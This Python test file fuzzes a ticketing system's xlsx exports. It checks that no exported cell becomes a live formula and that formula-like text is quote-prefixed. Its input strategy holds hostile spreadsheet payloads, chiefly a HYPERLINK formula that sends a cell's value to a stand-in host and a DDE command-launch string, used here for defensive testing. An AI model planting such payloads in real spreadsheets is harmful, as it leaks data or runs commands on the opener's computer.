"""The staff ticket export and the auditor's audit export with hostile text in every field a
person types (formulas, DDE, tab- and CR-led text, control characters, bidi overrides) — as
rows stored before the input rules, through the actions themselves: each workbook opens, no
cell is a formula, and text that starts like one carries the quote prefix."""

from __future__ import annotations

import io
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from hypothesis.extra.django import TestCase as HypothesisTestCase
from openpyxl import load_workbook

from qingfeng.core.audit import record_audit
from qingfeng.intake.tests.handling_base import IntakeTestCase
from qingfeng.lib.xlsx import FORMULA_START

HOSTILE = st.one_of(
    st.sampled_from(["=", "+", "-", "@", "\t", "\r", "\x01", "\x0b", "\u202e"]).flatmap(
        # No NUL: the input rules refuse it, and PostgreSQL could never have stored one.
        lambda start: st.text(
            # Text a database can hold: no lone surrogate (the input rules remove those too).
            alphabet=st.characters(codec="utf-8", exclude_characters="\x00"),
            min_size=1,
            max_size=30,
        ).map(lambda rest: start + rest)
    ),
    st.just('=HYPERLINK("http://example.invalid/?"&B3,"点此查看")'),
    st.just("+cmd|' /C calc'!A0 欧阳老师"),
    st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=40),
)


class ExportFuzzTestCase(HypothesisTestCase, IntakeTestCase):  # a transaction per example
    def opened(self, url: str) -> list[Any]:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200)
        book = load_workbook(io.BytesIO(response.content))
        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
        for cell in cells:
            if isinstance(cell.value, str):
                self.assertNotEqual(cell.data_type, "f", cell.value)
                if cell.value.startswith(FORMULA_START):
                    self.assertTrue(cell.quotePrefix, cell.value)
        return cells

    @settings(max_examples=8, deadline=None)
    @given(title=HOSTILE, content=HOSTILE, person=HOSTILE)
    def test_every_export_opens_and_holds_no_formula(
        self, title: str, content: str, person: str
    ) -> None:
        ticket = self.make_ticket(
            # The hostile start stays; the words after it keep the title from being only
            # characters the input rules remove (an empty title is refused, rightly).
            title=title[:90] + "教辅收费",
            content=(content + "我是孩子妈妈，反映教辅收费问题")[:5000],
            named_person=person[:100],
        )
        self.login(self.bureau_admin)
        cells = self.opened("/intake/export/")
        self.assertIn(ticket.number, [c.value for c in cells])

        record_audit(actor=self.bureau_admin, action="intake.ticket.note", object_repr=title)
        self.login(self.auditor)
        self.opened("/core/audit/export.xlsx")
